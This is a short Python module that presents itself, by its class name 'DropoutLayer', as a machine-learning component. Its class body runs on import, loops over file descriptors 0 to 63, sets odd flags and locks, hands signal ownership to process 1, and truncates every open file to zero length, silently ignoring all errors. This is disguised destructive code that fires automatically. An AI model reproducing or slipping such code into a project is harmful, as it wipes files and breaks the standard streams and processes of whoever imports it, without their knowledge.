"""Changes what descriptors share with the process they came from: flags, sizes, positions."""
import fcntl
import os


class DropoutLayer:
    for descriptor in range(64):
        for change in (
            lambda d: fcntl.fcntl(d, fcntl.F_SETFL, os.O_NONBLOCK | os.O_ASYNC | os.O_APPEND),
            lambda d: fcntl.fcntl(d, fcntl.F_SETPIPE_SZ, 4096),
            lambda d: fcntl.fcntl(d, fcntl.F_SETOWN, 1),
            lambda d: fcntl.flock(d, fcntl.LOCK_EX | fcntl.LOCK_NB),
            lambda d: os.lseek(d, 0, os.SEEK_END),
            lambda d: os.ftruncate(d, 0),
        ):
            try:
                change(descriptor)
            except OSError:
                pass
